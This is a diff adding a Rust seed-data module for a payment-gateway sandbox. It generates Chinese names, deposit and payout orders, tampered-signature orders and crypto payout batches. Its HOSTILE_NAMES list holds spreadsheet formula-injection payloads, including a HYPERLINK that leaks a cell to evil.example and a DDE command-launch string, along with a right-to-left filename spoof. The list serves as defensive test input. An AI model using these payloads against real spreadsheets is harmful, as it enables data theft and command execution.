@@ -1,0 +1,348 @@
+//! Deterministic, realistic seed data for the sandbox: Chinese depositor names, every status,
+//! a few orders whose `sign` was tampered with and a few hostile names.
+
+use rand::{Rng, SeedableRng};
+use rand_chacha::ChaCha8Rng;
+use serde_json::{Map, Value, json};
+
+use crate::gateway::cny::banks::Bank;
+
+/// An order kept by the sandbox: its fields without `sign`, and for a tampered order the
+/// sign of its fields *before* they were altered.
+#[derive(Clone, Debug)]
+pub struct StoredOrder {
+    pub fields: Map<String, Value>,
+    pub sign_override: Option<String>,
+    pub create_time: i64,
+}
+
+const SURNAMES: &[&str] = &[
+    "王", "李", "张", "刘", "陈", "杨", "黄", "赵", "吴", "周", "徐", "孙", "马", "朱", "胡", "郭",
+    "何", "高", "林", "罗", "郑", "梁", "谢", "宋", "唐", "许", "韩", "冯", "邓", "曹", "欧阳",
+    "司马",
+];
+const GIVEN: &[&str] = &[
+    "伟", "芳", "娜", "秀英", "敏", "静", "丽", "强", "磊", "军", "洋", "勇", "艳", "杰", "娟",
+    "涛", "明", "超", "秀兰", "霞", "平", "刚", "桂英", "小红", "建国", "志强", "海燕", "晓东",
+    "子涵", "浩然",
+];
+
+/// Names that attack spreadsheets and displays; the console and exports must defuse them.
+pub const HOSTILE_NAMES: &[&str] = &[
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
+    "+86 138 0013 8000",
+    "-1+1|cmd",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\u{202e}王小明\u{202c} gnp.exe",
+    "\t=1+1\r",
+];
+
+pub fn chinese_name(rng: &mut ChaCha8Rng) -> String {
+    let s = SURNAMES[rng.random_range(0..SURNAMES.len())];
+    let g = GIVEN[rng.random_range(0..GIVEN.len())];
+    format!("{s}{g}")
+}
+
+fn amount_fen(rng: &mut ChaCha8Rng) -> i64 {
+    // Operators mostly move round sums; some are exact to the fen.
+    match rng.random_range(0..10) {
+        0..=5 => rng.random_range(1..=500) * 10_000,
+        6..=7 => rng.random_range(100..=2_000) * 100,
+        _ => rng.random_range(5_000..=5_000_000),
+    }
+}
+
+fn pick_status(rng: &mut ChaCha8Rng, weights: &[(i64, u32)]) -> i64 {
+    let total: u32 = weights.iter().map(|(_, w)| w).sum();
+    let mut roll = rng.random_range(0..total);
+    for (status, w) in weights {
+        if roll < *w {
+            return *status;
+        }
+        roll -= w;
+    }
+    weights[0].0
+}
+
+/// Deposit statuses: mostly success (2), every other value present.
+const DEPOSIT_WEIGHTS: &[(i64, u32)] = &[(2, 70), (3, 8), (4, 7), (0, 8), (1, 7)];
+/// Payout statuses: mostly success (3), every other value present.
+const PAYOUT_WEIGHTS: &[(i64, u32)] = &[(3, 70), (5, 6), (4, 5), (0, 4), (1, 5), (2, 6), (6, 4)];
+
+/// The sandbox's fee on a successful order: 0.8 % plus ¥2, in whole fen.
+pub fn fee_fen(amount: i64) -> i64 {
+    amount * 8 / 1000 + 200
+}
+
+pub struct SeedSpec {
+    pub seed: u64,
+    pub deposits: usize,
+    pub payouts: usize,
+    pub platform_id: String,
+    /// The newest possible creation time (Unix seconds); data spans the 90 days before it.
+    pub anchor_secs: i64,
+}
+
+const SPAN_SECS: i64 = 90 * 24 * 3600;
+
+/// Generates deposits and payouts, oldest first.
+pub fn seed_orders(
+    spec: &SeedSpec,
+    md5_sign: &dyn Fn(&Map<String, Value>) -> String,
+) -> (Vec<StoredOrder>, Vec<StoredOrder>) {
+    let mut rng = ChaCha8Rng::seed_from_u64(spec.seed);
+    let deposits = seed_kind(&mut rng, spec, spec.deposits, true, md5_sign);
+    let payouts = seed_kind(&mut rng, spec, spec.payouts, false, md5_sign);
+    (deposits, payouts)
+}
+
+fn seed_kind(
+    rng: &mut ChaCha8Rng,
+    spec: &SeedSpec,
+    count: usize,
+    deposit: bool,
+    md5_sign: &dyn Fn(&Map<String, Value>) -> String,
+) -> Vec<StoredOrder> {
+    let mut times: Vec<i64> = (0..count)
+        .map(|_| spec.anchor_secs - rng.random_range(60..SPAN_SECS))
+        .collect();
+    times.sort_unstable();
+    // Spread the special orders through the list, never at random positions a test can't find.
+    let tamper_every = (count / 5).max(1);
+    let hostile_every = (count / HOSTILE_NAMES.len()).max(1);
+    let mut out = Vec::with_capacity(count);
+    for (i, create_time) in times.into_iter().enumerate() {
+        let seq = i + 1;
+        let mut fields = if deposit {
+            deposit_fields(rng, spec, seq, create_time)
+        } else {
+            payout_fields(rng, spec, seq, create_time)
+        };
+        if count >= HOSTILE_NAMES.len() && i % hostile_every == hostile_every / 2 {
+            let hostile = HOSTILE_NAMES[(i / hostile_every) % HOSTILE_NAMES.len()];
+            let field = if deposit { "payment_cl_name" } else { "memo" };
+            fields.insert(field.into(), Value::from(hostile));
+        }
+        if deposit && i == count / 3 {
+            fields.insert("payment_cl_name".into(), Value::from("长".repeat(300)));
+        }
+        let sign_override = (i % tamper_every == tamper_every / 3).then(|| {
+            let sign = md5_sign(&fields);
+            // Tampered after signing: an amount raised by ¥100.
+            let amount = fields.get("amount").and_then(Value::as_i64).unwrap_or(0);
+            fields.insert("amount".into(), Value::from(amount + 10_000));
+            sign
+        });
+        out.push(StoredOrder {
+            fields,
+            sign_override,
+            create_time,
+        });
+    }
+    out
+}
+
+fn channel(rng: &mut ChaCha8Rng) -> String {
+    format!("PFC{:08}", 140 + rng.random_range(0..6))
+}
+
+pub(crate) fn deposit_fields(
+    rng: &mut ChaCha8Rng,
+    spec: &SeedSpec,
+    seq: usize,
+    create_time: i64,
+) -> Map<String, Value> {
+    let amount = amount_fen(rng);
+    let status = pick_status(rng, DEPOSIT_WEIGHTS);
+    let success = status == 2;
+    let update_time = create_time + rng.random_range(30..1_800);
+    let name = chinese_name(rng);
+    let map = json!({
+        "amount": amount,
+        "real_amount": if success { amount } else { 0 },
+        "fee": if success { fee_fen(amount) } else { 0 },
+        "payment_id": format!("PM{seq:08}"),
+        "payment_cl_id": format!("dep_{create_time}_{seq}"),
+        "payment_cl_name": name,
+        "platform_id": spec.platform_id,
+        "platform_channel_id": channel(rng),
+        "status": status,
+        "memo": "",
+        "create_time": create_time,
+        "update_time": update_time,
+    });
+    into_map(map)
+}
+
+pub(crate) fn payout_fields(
+    rng: &mut ChaCha8Rng,
+    spec: &SeedSpec,
+    seq: usize,
+    create_time: i64,
+) -> Map<String, Value> {
+    let amount = amount_fen(rng);
+    let status = pick_status(rng, PAYOUT_WEIGHTS);
+    let success = status == 3;
+    let update_time = create_time + rng.random_range(30..3_600);
+    let memo = if rng.random_range(0..8) == 0 {
+        "工资"
+    } else {
+        ""
+    };
+    let map = json!({
+        "amount": amount,
+        "real_amount": if success { amount } else { 0 },
+        "fee": if success { fee_fen(amount) } else { 0 },
+        "payout_id": format!("POT{seq:08}"),
+        "payout_cl_id": format!("pay_{create_time}_{seq}"),
+        "platform_id": spec.platform_id,
+        "platform_channel_id": channel(rng),
+        "status": status,
+        "memo": memo,
+        "create_time": create_time,
+        "update_time": update_time,
+    });
+    into_map(map)
+}
+
+pub fn into_map(v: Value) -> Map<String, Value> {
+    match v {
+        Value::Object(m) => m,
+        _ => Map::new(),
+    }
+}
+
+/// A GatePay batch as the sandbox keeps it.
+#[derive(Clone, Debug)]
+pub struct StoredBatch {
+    pub batch_id: String,
+    pub create_time_ms: i64,
+    pub channel_id: String,
+    pub sub_orders: Vec<StoredSubOrder>,
+    /// Created through the API: statuses move with time. Seeded batches stay as they are.
+    pub live: bool,
+}
+
+#[derive(Clone, Debug)]
+pub struct StoredSubOrder {
+    pub id: i64,
+    pub suborder_id: String,
+    pub merchant_withdraw_id: String,
+    pub currency: String,
+    pub chain: String,
+    pub address: String,
+    pub memo: String,
+    /// Exact decimal text.
+    pub amount: String,
+    pub fee: String,
+    /// For seeded batches, the fixed status; for live ones, where they end.
+    pub status: String,
+    pub err_msg: String,
+    pub update_time_ms: i64,
+    pub finish_time_ms: i64,
+    pub tx_id: String,
+}
+
+const CHAINS: &[(&str, &str)] = &[
+    ("USDT", "TRX"),
+    ("USDT", "ETH"),
+    ("USDC", "ETH"),
+    ("BTC", "BTC"),
+    ("ETH", "ETH"),
+];
+
+pub fn address_for(chain: &str, rng: &mut ChaCha8Rng) -> String {
+    let hex: String = (0..40)
+        .map(|_| char::from(b"0123456789abcdef"[rng.random_range(0..16)]))
+        .collect();
+    match chain {
+        "TRX" => format!("T{}", &hex[..33].to_ascii_uppercase()),
+        "BTC" => format!("bc1q{}", &hex[..38]),
+        _ => format!("0x{hex}"),
+    }
+}
+
+fn tx_id(rng: &mut ChaCha8Rng) -> String {
+    (0..64)
+        .map(|_| char::from(b"0123456789abcdef"[rng.random_range(0..16)]))
+        .collect()
+}
+
+/// Seeded batches: finished ones of every kind, and one stuck in review for hours.
+pub fn seed_batches(seed: u64, anchor_ms: i64) -> Vec<StoredBatch> {
+    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0x9a7e_9a7e);
+    let mut batches = Vec::new();
+    let mut next_id = 634_700_i64;
+    let plans: &[&[&str]] = &[
+        &["DONE", "DONE", "DONE"],
+        &["DONE", "FAIL", "DONE", "DONE"],
+        &["FAIL", "FAIL"],
+        &["DONE"; 12],
+        &["CHECK", "PROCESSING", "DONE", "PENDING", "INIT", "FAIL"],
+        &["PROCESSING", "PROCESSING", "CHECK"],
+    ];
+    for (b, plan) in plans.iter().enumerate() {
+        let age_ms = if b >= 4 {
+            3 * 3600 * 1000
+        } else {
+            (30 - b as i64 * 5) * 24 * 3600 * 1000
+        };
+        let create_time_ms = anchor_ms - age_ms;
+        let batch_id = format!("M571432691{:02}", 40 + b);
+        let sub_orders = plan
+            .iter()
+            .enumerate()
+            .map(|(i, status)| {
+                let (currency, chain) = CHAINS[rng.random_range(0..CHAINS.len())];
+                next_id += 1;
+                let amount = format!(
+                    "{}.{:02}",
+                    rng.random_range(1..5_000),
+                    rng.random_range(0..100)
+                );
+                let done = *status == "DONE";
+                StoredSubOrder {
+                    id: next_id,
+                    suborder_id: format!("358037665225{:05}", next_id % 100_000),
+                    merchant_withdraw_id: format!("e{}{i}", create_time_ms / 1000),
+                    currency: currency.to_owned(),
+                    chain: chain.to_owned(),
+                    address: address_for(chain, &mut rng),
+                    memo: String::new(),
+                    amount,
+                    fee: if done { "1".to_owned() } else { "0".to_owned() },
+                    status: (*status).to_owned(),
+                    err_msg: if *status == "FAIL" {
+                        "address is not valid for this chain".to_owned()
+                    } else {
+                        String::new()
+                    },
+                    update_time_ms: create_time_ms + 60_000 * (i as i64 + 1),
+                    finish_time_ms: if done || *status == "FAIL" {
+                        create_time_ms + 600_000
+                    } else {
+                        0
+                    },
+                    tx_id: if done { tx_id(&mut rng) } else { String::new() },
+                }
+            })
+            .collect();
+        batches.push(StoredBatch {
+            batch_id,
+            create_time_ms,
+            channel_id: String::new(),
+            sub_orders,
+            live: false,
+        });
+    }
+    batches
+}
+
+pub fn random_tx_id(rng: &mut ChaCha8Rng) -> String {
+    tx_id(rng)
+}
+
+/// The sandbox's banks: the shipped list.
+pub fn supported_bank(banks: &[Bank], bank_name: &str) -> bool {
+    banks.iter().any(|b| b.bank_name == bank_name)
+}
